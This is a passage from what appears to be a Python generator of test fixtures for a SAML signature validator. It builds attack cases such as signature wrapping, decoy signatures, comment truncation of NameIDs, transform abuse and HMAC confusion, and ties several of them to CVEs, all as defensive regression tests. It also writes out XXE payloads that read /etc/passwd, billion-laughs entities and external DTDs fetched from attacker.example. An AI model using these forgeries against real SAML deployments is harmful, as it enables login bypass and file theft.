       post=forge_after(lambda d, sig: once(sig, "<SignedInfo>", evil_signed_info(d, sig) + "<SignedInfo>")),
       checks=[(XP_A, "idp", "FAIL")], **XSW_FORBIDDEN)
for tag in ["SignatureValue", "KeyInfo", "DigestValue", "CanonicalizationMethod", "SignatureMethod"]:
    attack(f"duplicate-{tag.lower()}", 17, f"{tag} appears twice in the Assertion signature", AWSC,
           "malformed_signature", post=sig_edit(dup(tag)), checks=[(XP_A, "idp", "FAIL")])


# --- 18: decoy Signature in StatusDetail (CVE-2024-45409) -------------------
def decoy(forge_assertion):
    def f(doc):
        checked_digest_of_assertion(doc)
        sig = text_of(doc, assertion_sig_span(doc))
        sigval = text_of(sig, span(sig, "<SignatureValue>", "</SignatureValue>"))
        d = SIG_OPEN + evil_signed_info(doc, sig) + sigval + SIG_CLOSE
        doc = once(doc, "</samlp:Status>", "<samlp:StatusDetail>" + d + "</samlp:StatusDetail></samlp:Status>")
        if forge_assertion:
            s = assertion_span(doc)
            doc = doc[:s[0]] + forge(text_of(doc, s)) + doc[s[1]:]
        return doc
    return f


attack("decoy-signature-statusdetail-forged", 18, "CVE-2024-45409: ds:Signature in StatusDetail (before the "
       "real one) references #A with the digest of the forged Assertion; Assertion forged", AWSC,
       "unexpected_signature", post=decoy(True), checks=[(XP_A, "idp", "FAIL")], **XSW_FORBIDDEN)
attack("decoy-signature-statusdetail", 18, "decoy ds:Signature in StatusDetail, Assertion intact (the real "
       "signature verifies)", AWSC, "unexpected_signature", post=decoy(False))


# --- 19: comments in crypto text (CVE-2025-29775) ---------------------------
def comment_in(tag, forged_digest=False):
    def f(doc):
        if forged_digest:
            checked_digest_of_assertion(doc)
            forged = forge(strip_sig(text_of(doc, assertion_span(doc))))
            doc = once(doc, "<DigestValue>", f"<DigestValue><!--{exc_c14n_digest(forged)}-->")
            s = assertion_span(doc)
            return doc[:s[0]] + forge(text_of(doc, s)) + doc[s[1]:]
        return re.sub(f"<{tag}>([^<]*)</{tag}>",
                      lambda m: f"<{tag}>{gen.insert_mid(m.group(1), '<!---->')}</{tag}>", doc, count=1)
    return f


attack("digestvalue-comment-forged", 19, "CVE-2025-29775: <DigestValue><!--digest(forged)-->genuine; "
       "Assertion forged", AWSC, "crypto_text", post=comment_in("DigestValue", True),
       checks=[(XP_A, "idp", "FAIL")], **XSW_FORBIDDEN)
for tag in ["DigestValue", "SignatureValue", "X509Certificate"]:
    attack(f"{tag.lower()}-comment", 19, f"empty comment inside {tag} (content intact)", AWSC, "crypto_text",
           post=comment_in(tag))

# --- 20: comment / CDATA / PI truncation ------------------------------------
VICTIM = "victim@corp.com.evil.com"


def victim(edits=()):
    return [(">alice@example.com</NameID>", f">{VICTIM}</NameID>")] + list(edits)


TRUNC = {"forbidden_values": ["victim@corp.com"]}
attack("nameid-comment-split", 20, "IdP signed NameID victim@corp.com.evil.com; attacker inserted <!----> "
       "after victim@corp.com (exc-c14n drops it: both signatures verify)", CV, "valid", victim(),
       post=lambda d: once(d, ">victim@corp.com.evil.com<", ">victim@corp.com<!---->.evil.com<"),
       expect_name_id=VICTIM, **TRUNC)
attack("nameid-cdata-split", 20, "attacker rewrote .evil.com of the signed NameID as CDATA (same canonical "
       "text: both signatures verify)", CV, "valid", victim(),
       post=lambda d: once(d, ">victim@corp.com.evil.com<", ">victim@corp.com<![CDATA[.evil.com]]><"),
       expect_name_id=VICTIM, **TRUNC)
attack("nameid-pi-split-signed", 20, "IdP signed the NameID with a PI inside (victim@corp.com<?x?>.evil.com)",
       CV, "valid", victim([(f">{VICTIM}<", ">victim@corp.com<?x?>.evil.com<")]), expect_name_id=VICTIM, **TRUNC)
attack("nameid-pi-split-inserted", 20, "attacker inserted a PI into the signed NameID (PIs are canonicalized: "
       "digest breaks)", CV, "digest_mismatch", victim(),
       post=lambda d: once(d, ">victim@corp.com.evil.com<", ">victim@corp.com<?x?>.evil.com<"),
       checks=[(XP_A, "idp", "FAIL"), (XP_R, "idp", "FAIL")], **TRUNC)
attack("memberof-comment-split", 20, "signed memberOf value vpn-admins.disabled split by a comment after "
       "vpn-admins", CV, "valid",
       [("<AttributeValue>" + guid("group-0") + "</AttributeValue>", "<AttributeValue>vpn-admins.disabled</AttributeValue>")],
       post=lambda d: once(d, ">vpn-admins.disabled<", ">vpn-admins<!---->.disabled<"),
       forbidden_values=["vpn-admins"])
ROLE_TRUNC = f"{PROVIDER},{ROLE_ADMIN}"
attack("role-comment-split", 20, "signed Role value 'provider,role/Admin.ReadOnly' split by a comment after "
       "role/Admin (a truncating reader would assume Admin)", AWSC, "valid",
       [set_attr(ROLE, [f"{ROLE_TRUNC}.ReadOnly"])],
       post=lambda d: once(d, f">{ROLE_TRUNC}.ReadOnly<", f">{ROLE_TRUNC}<!---->.ReadOnly<"),
       forbidden_values=[ROLE_TRUNC, ROLE_ADMIN])
attack("role-session-name-cdata-split", 20, "signed RoleSessionName alice@example.com.evil.com with the "
       "suffix rewritten as CDATA", AWSC, "valid", [set_attr(RSN, ["alice@example.com.evil.com"])],
       post=lambda d: once(d, ">alice@example.com.evil.com<", ">alice@example.com<![CDATA[.evil.com]]><"),
       forbidden_values=["alice@example.com"])

# --- 21: unsigned envelope (assertion-only signature) -----------------------
attack("unsigned-destination-edited", 21, "assertion-only signature; attacker changed the unsigned "
       "Response Destination", AWSC, "destination_mismatch",
       post=lambda d: once(d, f'Destination="{p(AWSC, "acs")}"', f'Destination="{OTHER_ACS}"'))
attack("unsigned-issuer-edited", 21, "assertion-only signature; attacker changed the unsigned Response Issuer",
       AWSC, "issuer_mismatch", post=lambda d: once(d, RESP_ISSUER, RESP_ISSUER.replace(ISSUER, OTHER_ISSUER)))
attack("unsigned-status-edited", 21, "assertion-only signature; attacker changed the unsigned Status to "
       "Responder", AWSC, "status_not_success", post=lambda d: once(d, SUCCESS, RESPONDER))
attack("signed-response-irt-edited", 21, "doubly signed Client VPN response; attacker changed "
       "Response@InResponseTo (covered by the Response signature)", CV, "digest_mismatch",
       post=lambda d: once(d, f'Destination="{p(CV, "acs")}" InResponseTo="{p(CV, "irt")}"',
                           f'Destination="{p(CV, "acs")}" InResponseTo="{IRT_ATTACKER}"'),
       checks=[(XP_A, "idp", "OK"), (XP_R, "idp", "FAIL")], request_id=IRT_ATTACKER)
# class 21 also lists policy/aws-console-unsigned-response-irt.xml and
# policy/generic-unsigned-response-irt.xml (added in manifest()).


# --- 22: transforms ---------------------------------------------------------
def xpath_transform():
    return (f'<Transform Algorithm="{XPATH}"><XPath xmlns:saml="{NS_SAML}">'
            "not(ancestor-or-self::saml:Subject)</XPath></Transform>")


FILTER2 = "http://www.w3.org/2002/06/xmldsig-filter2"


def filter2_transform():
    return (f'<Transform Algorithm="{FILTER2}"><XPath xmlns="{FILTER2}" xmlns:saml="{NS_SAML}" '
            'Filter="subtract">//saml:Subject</XPath></Transform>')


def forge_subject(doc):
    s = span(doc, "<Subject>", "</Subject>")
    return doc[:s[0]] + forge(text_of(doc, s)) + doc[s[1]:]


attack("xpath-transform-forged-subject", 22, "XPath transform not(ancestor-or-self::saml:Subject) then the "
       "Subject forged: the signature still verifies", AWSC, "transforms",
       asig=signature([reference("#" + A, transforms=[transform(ENV), xpath_transform(), transform(EXC)])]),
       post=forge_subject, **XSW_FORBIDDEN)
attack("xpath-filter2-forged-subject", 22, "XPath-Filter2 subtract //saml:Subject, then the Subject forged",
       AWSC, "transforms",
       asig=signature([reference("#" + A, transforms=[transform(ENV), filter2_transform(), transform(EXC)])]),
       post=forge_subject, **XSW_FORBIDDEN)
XSLT = ('<Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet '
        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">'
        '<xsl:copy-of select="."/></xsl:template></xsl:stylesheet></Transform>')
attack("xslt-transform", 22, "XSLT transform inserted between enveloped and exc-c14n (edited after "
       "signing)", AWSC, "transforms",
       post=lambda d: once(d, f'<Transform Algorithm="{ENV}"/>', f'<Transform Algorithm="{ENV}"/>' + XSLT),
       checks=[(XP_A, "idp", "FAIL")])

# --- 23: void canonicalization (CVE-2025-66475) -----------------------------
attack("relative-namespace-response", 23, "xmlns:example=\"1\" (relative namespace URI) on the unsigned "
       "Response", AWSC, "relative_namespace_uri",
       post=lambda d: once(d, "<samlp:Response ", '<samlp:Response xmlns:example="1" '),
       checks=[(XP_A, "idp", "FAIL")])


def void_c14n(doc):
    doc = once(doc, f'<Assertion xmlns="{NS_SAML}"', f'<Assertion xmlns="{NS_SAML}" xmlns:example="1"')
    doc = re.sub(r"<DigestValue>[^<]*</DigestValue>", f"<DigestValue>{EMPTY_SHA256}</DigestValue>", doc, count=1)
    s = assertion_span(doc)
    return doc[:s[0]] + forge(text_of(doc, s)) + doc[s[1]:]


attack("void-canonicalization", 23, "xmlns:example=\"1\" on the Assertion, DigestValue = SHA-256 of the "
       "empty string, Assertion forged", AWSC, "relative_namespace_uri", post=void_c14n,
       checks=[(XP_A, "idp", "FAIL")], **XSW_FORBIDDEN)


# --- 24: c14n edge cases (interop, all valid) -------------------------------
def prefixed_assertion():
    """Assertion elements prefixed saml:, the prefix declared on the unsigned
    Response only (ADFS/Okta style: namespace inherited from an unsigned
    ancestor)."""
    d = base_template(CV, "none", rsig="@@RSIG@@", asig="@@ASIG@@")
    s = assertion_span(d)
    a = text_of(d, s).replace(f' xmlns="{NS_SAML}"', "", 1)
    a = re.sub(r"<(/?)([A-Za-z]+)", r"<\1saml:\2", a)
    d = d[:s[0]] + a + d[s[1]:]
    d = once(d, "<samlp:Response ", f'<samlp:Response xmlns:saml="{NS_SAML}" ')
    d = once(d, RESP_ISSUER, f"<saml:Issuer>{ISSUER}</saml:Issuer>")
    return d.replace("@@ASIG@@", std_sig(A)).replace("@@RSIG@@", std_sig(R))


attack("c14n-inherited-prefix", 24, "saml: prefix declared only on the Response (inherited from an ancestor, "
       "rendered by exc-c14n on the Assertion)", CV, "valid", template=prefixed_assertion,
       sign=[(XP_A, "idp"), (XP_R, "idp")])
attack("c14n-xsi-type-no-prefixlist", 24, "xs/xsi declared on the Response, xsi:type=\"xs:string\" on every "
       "AttributeValue, no InclusiveNamespaces", CV, "valid", typed=True)
attack("c14n-xml-lang", 24, "xml:lang on the FirstName AttributeValue", CV, "valid",
       [("<AttributeValue>Alice</AttributeValue>", '<AttributeValue xml:lang="en">Alice</AttributeValue>')])
attack("c14n-empty-default-namespace", 24, "Advice holding an element with xmlns=\"\" inside the default-"
       "namespaced Assertion", CV, "valid",
       [("<AttributeStatement>", '<Advice><note xmlns="">unqualified</note></Advice><AttributeStatement>')])
attack("c14n-attribute-sort-by-namespace", 24, "Attribute with two foreign attributes whose prefix order "
       "differs from their namespace URI order", CV, "valid",
       [('<Attribute Name="FirstName">', '<Attribute xmlns:a="urn:z:last" xmlns:z="urn:a:first" a:x="1" '
         'z:y="2" Name="FirstName">')])
attack("c14n-carriage-return", 24, "FirstName value with &#xD; (CR preserved as &#xD; by c14n)", CV, "valid",
       [("<AttributeValue>Alice</AttributeValue>", "<AttributeValue>Alice&#xD;\nB</AttributeValue>")])
attack("c14n-redundant-default-namespace", 24, "NameID redeclares the SAML default namespace", CV, "valid",
       [("<NameID ", f'<NameID xmlns="{NS_SAML}" ')])
DEFAULT_LIST_ASIG = signature([reference("#" + A, transforms=[transform(ENV), transform(EXC, "#default")])],
                              c14n_prefixes="#default")
DEFAULT_LIST_RSIG = signature([reference("#" + R, transforms=[transform(ENV), transform(EXC, "#default")])],
                              c14n_prefixes="#default")
attack("c14n-default-prefixlist-undeclared", 24, "PrefixList=\"#default\" on both signatures and, inside the "
       "default-namespaced Assertion, a prefixed element that undeclares the default (xmlns=\"\"): #default puts "
       "xmlns=\"\" on it", CV, "valid",
       [("<AttributeStatement>", '<Advice><ex:note xmlns:ex="urn:example:note" xmlns=""><ex:line>x</ex:line>'
         "<plain>unqualified</plain></ex:note></Advice><AttributeStatement>")],
       asig=DEFAULT_LIST_ASIG, rsig=DEFAULT_LIST_RSIG)
attack("c14n-reference-with-comments", 24, "Reference transform exc-c14n#WithComments and a comment inside the "
       "Assertion: #ID selects the element without comments, so the digest has none", AWSC, "valid",
       [("<Subject>", "<!-- a comment the digest leaves out --><Subject>")],
       asig=signature([reference("#" + A, transforms=[transform(ENV), transform(EXC_WC)])]))

# --- 25: ds:Object / Manifest -----------------------------------------------
attack("response-signature-object", 25, "Client VPN Response signature holds a ds:Object", CV,
       "forbidden_element",
       rsig=signature([reference("#" + R)], extra='<Object Id="o1"><Note xmlns="urn:example:note">x</Note></Object>'))
attack("assertion-signature-manifest", 25, "Assertion signature: one Reference Type=Manifest to a ds:Manifest "
       "in a ds:Object that references the Assertion", AWSC, "forbidden_element",
       asig=signature([reference("#manifest-1", transforms=[transform(EXC)], type_attr=gen.MANIFEST_TYPE)],
                      extra=f'<Object><Manifest Id="manifest-1">{reference("#" + A)}</Manifest></Object>'))

# --- 26: KeyInfo trust ------------------------------------------------------
KI = "<KeyInfo><X509Data></X509Data></KeyInfo>"
attack("attacker-cert-in-keyinfo", 26, "re-signed with attacker.key, attacker.crt in KeyInfo", AWSC,
       "unknown_signing_key", key="attacker", checks=[(XP_A, "attacker", "OK"), (XP_A, "idp", "FAIL")])
attack("attacker-keyvalue", 26, "re-signed with attacker.key, KeyInfo/KeyValue (RSAKeyValue) instead of a "
       "certificate", AWSC, "signature_invalid", key="attacker",
       asig=std_sig(A).replace(KI, "<KeyInfo><KeyValue/></KeyInfo>"), checks=[(XP_A, "idp", "FAIL")])
attack("attacker-keyname", 26, "re-signed with attacker.key, KeyInfo/KeyName only", AWSC,
       "signature_invalid", key="attacker", asig=std_sig(A).replace(KI, "<KeyInfo><KeyName/></KeyInfo>"),
       checks=[(XP_A, "idp", "FAIL")])
attack("attacker-no-keyinfo", 26, "re-signed with attacker.key, no KeyInfo", AWSC, "signature_invalid",
       key="attacker", asig=std_sig(A, keyinfo=False), checks=[(XP_A, "idp", "FAIL")])
attack("next-key-wrong-hint", 26, "signed by idp-next.key but KeyInfo carries idp.crt: the hint is wrong, "
       "the other pinned key verifies", AWSC, "valid", key="idp-next",
       post=lambda d: gen.edit("keyinfo-attacker-cert", d).replace(gen.cert_b64("keys/attacker.crt"),
                                                                   gen.cert_b64("keys/idp.crt")))

# --- 27: algorithm confusion ------------------------------------------------
HMAC_KI = lambda d: gen.edit("keyinfo-idp-cert", d)  # noqa: E731
attack("hmac-sha256-cert-der", 27, "hmac-sha256 keyed with the DER bytes of idp.crt, KeyInfo idp.crt", AWSC,
       "unsupported_algorithm", asig=std_sig(A, alg="hmac-sha256", keyinfo=False), key="hmac", post=HMAC_KI)
SIG["hmac-sha1"] = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
attack("hmac-sha1-cert-pem", 27, "hmac-sha1 keyed with the PEM text of idp.crt (pysaml2 fixture shape)", AWSC,
       "unsupported_algorithm", asig=std_sig(A, alg="hmac-sha1", keyinfo=False), key="hmac-pem", post=HMAC_KI)
attack("hmac-output-length", 27, "hmac-sha1 with HMACOutputLength 8 (CVE-2009-0217 truncation)", AWSC,
       "malformed_signature", asig=std_sig(A, alg="hmac-sha1", keyinfo=False), key="hmac-pem",
       post=lambda d: HMAC_KI(once(d, f'<SignatureMethod Algorithm="{SIG["hmac-sha1"]}"/>',
                                   f'<SignatureMethod Algorithm="{SIG["hmac-sha1"]}"><HMACOutputLength>8'
                                   "</HMACOutputLength></SignatureMethod>")),
       checks=[(XP_A, "hmac-pem", "FAIL")])
attack("ecdsa-uri-rsa-key", 27, "SignatureMethod changed to ecdsa-sha256 on an RSA signature (RSA keys "
       "pinned)", AWSC, "algorithm_key_mismatch",
       post=lambda d: once(d, SIG["rsa-sha256"], SIG["ecdsa-sha256"]), checks=[(XP_A, "idp", "FAIL")])
attack("unknown-signature-method", 27, "SignatureMethod rsa-md5 (unknown URI)", AWSC, "unsupported_algorithm",
       post=lambda d: once(d, SIG["rsa-sha256"], "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"),
       checks=[(XP_A, "idp", "FAIL")])
attack("rsa-sha1", 27, "rsa-sha1 with sha1 digest, idp.key (SHA-1 not allowed by default)", AWSC,
       "sha1_not_allowed", asig=std_sig(A, alg="rsa-sha1", digest="sha1"),
       variants=[{"allow_sha1": True, "expect": "valid", "expect_name_id": AWS_NAMEID,
                  "description": "rsa-sha1 with SHA-1 explicitly allowed"}])

# --- 28: key configuration (config-level; existing metadata fixtures) ---------
for md, expect, note in [("only-encryption-key", "no_signing_key", "only a use=\"encryption\" key"),
                         ("no-keys", "no_signing_key", "no KeyDescriptor"),
                         ("roledescriptor-keys-only", "no_signing_key", "signing keys only in the WS-Fed RoleDescriptor"),
                         ("no-use-attribute", "valid", "one KeyDescriptor without use (signing and encryption)")]:
    extra = {"expect_name_id": "alice@example.com"} if expect == "valid" else {}
    ref("responses/clientvpn.xml", "attack", 28, f"trust from metadata/{md}.xml: {note}", CV, expect,
        trust=f"metadata/{md}.xml", stage="config" if expect != "valid" else "policy", **extra)
ref("responses/clientvpn.xml", "attack", 28, "metadata signature required (metadata_signer) but "
    "metadata/entra-tampered.xml was modified after signing", CV, "metadata_signature",
    trust="metadata/entra-tampered.xml", metadata_signer="keys/metadata-signer.crt", stage="config")
ref("responses/clientvpn.xml", "attack", 28, "metadata signature required but metadata/entra-unsigned.xml "
    "is unsigned", CV, "metadata_not_signed", trust="metadata/entra-unsigned.xml",
    metadata_signer="keys/metadata-signer.crt", stage="config")

# --- 29: wrong issuer -------------------------------------------------------
attack("assertion-issuer-other-tenant", 29, "Assertion Issuer is another tenant, signed by the pinned key",
       AWSC, "issuer_mismatch", [(ASSN_ISSUER, f"<Issuer>{OTHER_ISSUER}</Issuer>")])
attack("response-issuer-differs", 29, "signed Response Issuer differs from the (correct) Assertion Issuer",
       CV, "issuer_mismatch", [(RESP_ISSUER, RESP_ISSUER.replace(ISSUER, OTHER_ISSUER))])
attack("issuer-trailing-whitespace", 29, "Assertion Issuer with a trailing space (exact comparison)", AWSC,
       "issuer_mismatch", [(ASSN_ISSUER, f"<Issuer>{ISSUER} </Issuer>")])

# --- 30-33: DOCTYPE (xmlsec1 not run: it would process the DTD) ---------------
NOCHECK = {"checks": []}


def cve_2025_25291(doc):
    forged = forge(set_ids(doc, EVIL_R, EVIL_A)).rstrip("\n")
    forged_open = forged[:-len("</samlp:Response>")]
    return ("<!DOCTYPE samlp:Response SYSTEM 'x\"><!--'>\n" + forged_open + "<![CDATA[-->"
            + doc.rstrip("\n") + "<!--]]>-->" + "</samlp:Response>\n")


attack("doctype-comment-cdata", 30, "CVE-2025-25291: DOCTYPE SYSTEM literal opening a comment, forged "
       "Response, CDATA/comment interleaving around the original", CV, "doctype_not_allowed",
       post=cve_2025_25291, **NOCHECK, **XSW_FORBIDDEN)


def cve_2025_25292(doc):
    d = ('<!DOCTYPE samlp:Response [<!ATTLIST Signature xmlns CDATA #FIXED '
         '"http://www.w3.org/2000/09/xmldsig#" xmlns CDATA "block">]>\n')
    sig = text_of(doc, assertion_sig_span(doc)).replace(SIG_OPEN, "<Signature>", 1)
    doc = once(doc, "</samlp:Status>", "<samlp:StatusDetail>" + sig + "</samlp:StatusDetail></samlp:Status>")
    doc = once(doc, f'<Assertion xmlns="{NS_SAML}"', f'<Assertion xmlns="{NS_SAML}" xmlns:example="http://example.com\u0080"')
    return d + doc


attack("doctype-defaulted-namespace", 31, "CVE-2025-25292: DTD ATTLIST defaulting xmlns on Signature, an "
       "unprefixed Signature copy in StatusDetail, xmlns:example=\"http://example.com\\u0080\"", AWSC,
       "doctype_not_allowed", post=cve_2025_25292, **NOCHECK)


def statusdetail_unqualified_signature(doc):
    sig = text_of(doc, assertion_sig_span(doc)).replace(SIG_OPEN, "<Signature>", 1)
    return once(doc, "</samlp:Status>", "<samlp:StatusDetail>" + sig + "</samlp:StatusDetail></samlp:Status>")


attack("unqualified-signature-no-dtd", 31, "the CVE-2025-25292 decoy without its DTD: the StatusDetail "
       "<Signature> copy is in no namespace (inert, not a ds:Signature); the signed Assertion is intact",
       AWSC, "valid", post=statusdetail_unqualified_signature)
attack("namespace-uri-u0080", 31, "xmlns:example=\"http://example.com\\u0080\" added to the signed Assertion "
       "(not visibly used, but libxml2's c14n fails on it: xmlsec1 FAIL)", AWSC, "relative_namespace_uri",
       post=lambda d: once(d, f'<Assertion xmlns="{NS_SAML}"',
                           f'<Assertion xmlns="{NS_SAML}" xmlns:example="http://example.com\u0080"'),
       checks=[(XP_A, "idp", "FAIL")])


def cve_2025_23369(doc):
    d = '<!DOCTYPE samlp:Response [<!ENTITY idViaEntity "' + R + '"><!ENTITY BypassIDUniqueness "&#x50;">]>\n'
    doc = once(doc, f' ID="{R}"', ' ID="&idViaEntity;"')
    clone = forged_assertion(doc, new_id="&BypassIDUniqueness;" + A)
    doc = once(doc, SIG_CLOSE + "<Subject>", "<Object>" + clone + "</Object>" + SIG_CLOSE + "<Subject>")
    return d + doc


attack("doctype-entity-in-id", 32, "CVE-2025-23369: entities in ID values, Assertion clone in "
       "ds:Signature/ds:Object with ID \"&BypassIDUniqueness;A\"", AWSC, "doctype_not_allowed",
       post=cve_2025_23369, **NOCHECK, **XSW_FORBIDDEN)
attack("xxe-external-entity", 33, "XXE: external entity file:///etc/passwd used in NameID", CV,
       "doctype_not_allowed",
       post=lambda d: '<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
       + once(d, ">alice@example.com</NameID>", ">&xxe;</NameID>"), **NOCHECK)
LOL = ('<!DOCTYPE samlp:Response [<!ENTITY lol "lol">'
       + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
       + "]>\n")
attack("billion-laughs", 33, "billion laughs: 9 levels of 10x entity expansion referenced from FirstName",
       CV, "doctype_not_allowed",
       post=lambda d: LOL + once(d, "<AttributeValue>Alice</AttributeValue>", "<AttributeValue>&lol9;</AttributeValue>"),
       **NOCHECK)
attack("external-dtd", 33, "external DTD <!DOCTYPE ... SYSTEM \"http://attacker.example/evil.dtd\">", CV,
       "doctype_not_allowed",
       post=lambda d: '<!DOCTYPE samlp:Response SYSTEM "http://attacker.example/evil.dtd">\n' + d, **NOCHECK)
attack("parameter-entity", 33, "parameter entity loading an external DTD", CV, "doctype_not_allowed",
       post=lambda d: '<!DOCTYPE samlp:Response [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>\n' + d,
       **NOCHECK)
attack("undeclared-entity", 33, "entity reference &xxe; without any DOCTYPE", CV, "unknown_entity",
       post=lambda d: once(d, ">alice@example.com</NameID>", ">&xxe;</NameID>"), **NOCHECK)

# --- 34: encodings (xmlsec1 not run) ------------------------------------------
attack("encoding-utf16-bom", 34, "the signed response re-encoded as UTF-16LE with BOM", CV, "not_xml",
       post=lambda d: d.encode("utf-16"), **NOCHECK)
attack("encoding-utf16-no-bom", 34, "UTF-16LE without BOM (NUL bytes between ASCII)", CV, "invalid_character",
       post=lambda d: d.encode("utf-16-le"), **NOCHECK)
attack("encoding-latin1-declared", 34, "XML declaration encoding=\"ISO-8859-1\" on ASCII content", CV,
       "encoding", post=lambda d: '<?xml version="1.0" encoding="ISO-8859-1"?>\n' + d, **NOCHECK)
attack("encoding-latin1-bytes", 34, "ISO-8859-1 declaration and a Latin-1 byte (é) in FirstName", CV,
       "encoding",
       post=lambda d: ('<?xml version="1.0" encoding="ISO-8859-1"?>\n'
                       + once(d, "<AttributeValue>Alice</AttributeValue>", "<AttributeValue>Alic\u00e9</AttributeValue>")
                       ).encode("latin-1"), **NOCHECK)
attack("encoding-utf8-bom-utf16-declared", 34, "UTF-8 BOM with encoding=\"UTF-16\" declared", CV, "encoding",
       post=lambda d: b"\xef\xbb\xbf" + ('<?xml version="1.0" encoding="UTF-16"?>\n' + d).encode(), **NOCHECK)
attack("encoding-xml11-nel", 34, "XML 1.1 declaration and a NEL (U+0085) line end", CV, "xml_declaration",
       post=lambda d: '<?xml version="1.1"?>\n' + once(d, "<AttributeValue>Alice</AttributeValue>",
                                                       "<AttributeValue>Alice\u0085</AttributeValue>"), **NOCHECK)
attack("encoding-nul-byte", 34, "NUL byte inside the NameID", CV, "invalid_character",
       post=lambda d: once(d, ">alice@example.com</NameID>", ">alice@example.com\u0000.evil.com</NameID>"),
       **NOCHECK)
attack("encoding-utf16-bom-utf8-body", 34, "UTF-16LE BOM followed by UTF-8 bytes (BOM mismatch)", CV, "not_xml",
       post=lambda d: b"\xff\xfe" + d.encode(), **NOCHECK)

# --- 35: encrypted assertions ------------------------------------------------
ENC = ('<EncryptedAssertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion">'
       '<xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#" '
       'Type="http://www.w3.org/2001/04/xmlenc#Element">'
       '<xenc:EncryptionMethod Algorithm="http://www.w3.org/2009/xmlenc11#aes256-gcm"/>'
       '<KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"><xenc:EncryptedKey>'
       '<xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p"/>'
       f'<xenc:CipherData><xenc:CipherValue>{base64.b64encode(hashlib.sha512(b"key").digest() * 4).decode()}'
       '</xenc:CipherValue></xenc:CipherData></xenc:EncryptedKey></KeyInfo>'
       f'<xenc:CipherData><xenc:CipherValue>{base64.b64encode(hashlib.sha512(b"data").digest() * 16).decode()}'
       '</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData></EncryptedAssertion>')
# expect: a build without the xmlenc feature (EncryptedAssertion refused
# anywhere); expect_xmlenc: with it, where aws-console counts an
# EncryptedAssertion as an Assertion and has no SP key by default. The
# decrypting cases are in testdata/xmlenc/ (tests/encrypted.rs).
attack("encrypted-assertion-unsigned", 35, "unsigned Response with only an EncryptedAssertion (anyone can "
       "encrypt to the SP)", AWSC, "encrypted_assertion", sigs="none",
       edits=[lambda d: d[:assertion_span(d)[0]] + ENC + d[assertion_span(d)[1]:]], checks=[],
       expect_xmlenc="decryption_key_not_configured")
attack("encrypted-assertion-beside-signed", 35, "EncryptedAssertion next to the signed plaintext Assertion",
       AWSC, "encrypted_assertion", post=lambda d: once(d, "</Assertion>", "</Assertion>" + ENC),
       expect_xmlenc="assertion_count")
attack("encrypted-assertion-in-advice", 35, "IdP-signed Assertion whose Advice holds an EncryptedAssertion",
       AWSC, "encrypted_assertion", [("<AttributeStatement>", "<Advice>" + ENC + "</Advice><AttributeStatement>")],
       expect_xmlenc="assertion_count")

# --- 36: semantic rejects (policy fixtures) -----------------------------------
# manifest entries referencing policy/ files, added in manifest()
SEMANTIC = [
    ("policy/clientvpn-aws-console-audience.xml", "wrong Audience"),
    ("policy/clientvpn-no-audience-restriction.xml", "no AudienceRestriction"),
    ("policy/clientvpn-two-audience-restrictions.xml", "two AudienceRestrictions, SP in only one"),
    ("policy/clientvpn-not-before-future.xml", "NotBefore > now + skew"),
    ("policy/clientvpn-recipient-wrong.xml", "Recipient != ACS"),
    ("policy/clientvpn-destination-wrong.xml", "Destination != ACS"),
    ("policy/clientvpn-not-bearer.xml", "not bearer"),
    ("policy/clientvpn-scd-in-response-to-other.xml", "InResponseTo mismatch"),
    ("policy/clientvpn-status-responder.xml", "Status != Success"),
    ("policy/clientvpn-response-version-1.1.xml", "Version != 2.0"),
    ("policy/clientvpn-no-conditions.xml", "missing Conditions"),
    ("policy/clientvpn-two-conditions.xml", "duplicate Conditions"),
    ("policy/clientvpn-two-authn-statements.xml", "duplicate AuthnStatement"),
    ("policy/aws-console-empty-nameid.xml", "empty NameID"),
    ("policy/clientvpn-duplicate-attribute.xml", "duplicate Attribute Name"),
]
ref("responses/clientvpn.xml", "attack", 36, "NotOnOrAfter == now - skew (half-open; gosaml2 #287)", CV,
    "expired", now="2026-01-15T10:06:00Z")
ref("responses/clientvpn.xml", "attack", 36, "SubjectConfirmationData expired long ago", CV, "expired",
    now="2026-01-15T12:00:00Z")
ref("responses/clientvpn.xml", "attack", 36, "far-future IssueInstant (clock one hour behind)", CV,
    "issued_in_future", now="2026-01-15T09:00:00Z")
ref("responses/clientvpn.xml", "attack", 36, "replayed Assertion ID (validated twice)", CV,
    "replayed_assertion", validate_twice=True)

# --- 37: DoS ------------------------------------------------------------------
attack("depth-300", 37, "300 nested elements in samlp:Extensions (depth limit 256)", AWSC, "depth_limit",
       post=lambda d: insert_before_status(d, "<samlp:Extensions>" + "<x>" * 300 + "</x>" * 300 + "</samlp:Extensions>"))
attack("references-100", 37, "one SignedInfo with 100 References to the Assertion", AWSC, "reference_count",
       asig=signature([reference("#" + A)] * 100))
attack("deflate-bomb", 37, "base64 of raw DEFLATE of 10 MiB of '<' (Redirect-binding style); POST input is "
       "never inflated", AWSC, "not_xml", template=lambda: "", sign=[], checks=[], ext="b64",
       post=lambda d: base64.b64encode(zlib.compress(b"<" * (10 << 20), 9)[2:-4]).decode() + "\n")
generated("responses/clientvpn.xml", 37, "10,000-deep nesting", CV, "depth_limit",
          "insert '<x>' x 10000 then '</x>' x 10000 immediately before the first '<samlp:Status>' (70 KB)")
generated("responses/generic.xml", 37, "100,000 namespace declarations", GEN, "input_too_large",
          "insert ' xmlns:n{i}=\"urn:n:{i}\"' for i in 0..99999 right after '<samlp:Response' (about 2.3 MB, "
          "over the 1 MiB default input limit)")
generated("responses/generic.xml", 37, "5,000 namespace declarations on 5,000 elements (document-wide limit "
          "4096; 5,000 on one element would hit the 128-attribute limit first)", GEN, "namespace_limit",
